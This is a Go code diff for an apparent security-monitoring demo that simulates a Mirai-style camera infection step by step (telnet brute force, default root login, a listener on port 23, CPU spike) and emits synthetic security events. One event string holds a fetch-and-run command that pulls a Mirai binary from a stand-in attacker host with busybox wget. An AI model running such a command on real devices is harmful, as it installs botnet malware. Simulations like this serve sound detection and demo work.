@@ -19,6 +19,9 @@ type Step struct {
 	At time.Duration
 	// Say describes the step for the demo's output.
 	Say string
+	// Try is what the step attempts, for the demo's output when the
+	// device is already isolated and the step cannot happen.
+	Try string
 	// Apply changes the device (a new listener, a CPU load) and returns
 	// the security events to send, if any. It runs when the step is due.
 	Apply func(d *Device, now time.Time) []wire.SecurityEvent
@@ -34,7 +37,8 @@ func MiraiScript() []Step {
 	for i, u := range users {
 		steps = append(steps, Step{
 			At:  time.Duration(i) * 300 * time.Millisecond,
-			Say: fmt.Sprintf("failed telnet login as %q from %s", u, Attacker),
+			Say: fmt.Sprintf("failed telnet login %d/%d as %q from %s", i+1, len(users), u, Attacker),
+			Try: fmt.Sprintf("telnet login %d/%d as %q from %s", i+1, len(users), u, Attacker),
 			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
 				return []wire.SecurityEvent{loginEvent(now, u, "failure")}
 			},
@@ -43,10 +47,12 @@ func MiraiScript() []Step {
 	n := time.Duration(len(users)) * 300 * time.Millisecond
 	return append(steps,
 		Step{At: n, Say: "successful telnet login as \"root\" (default credentials)",
+			Try: "telnet login as \"root\" with the default password",
 			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
 				return []wire.SecurityEvent{loginEvent(now, "root", "success")}
 			}},
 		Step{At: n + 500*time.Millisecond, Say: "busybox wget downloads and runs a binary",
+			Try: "download and run of a binary with busybox wget",
 			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
 				return []wire.SecurityEvent{
 					processEvent(now, "/bin/busybox", "busybox wget http://"+Attacker.String()+"/bins/mirai.arm7 -O /tmp/.m"),
@@ -54,11 +60,13 @@ func MiraiScript() []Step {
 				}
 			}},
 		Step{At: n + time.Second, Say: "a telnet listener appears on port 23",
+			Try: "a telnet listener on port 23",
 			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
 				d.extra = append(d.extra, wire.Listener{Proto: "tcp", Addr: "0.0.0.0", Port: 23, Process: ".m"})
 				return nil
 			}},
 		Step{At: n + 1500*time.Millisecond, Say: "CPU load jumps to ~97% (scanning)",
+			Try: "scanning from the camera",
 			Apply: func(d *Device, now time.Time) []wire.SecurityEvent {
 				d.cpuOverride = 97
 				return nil
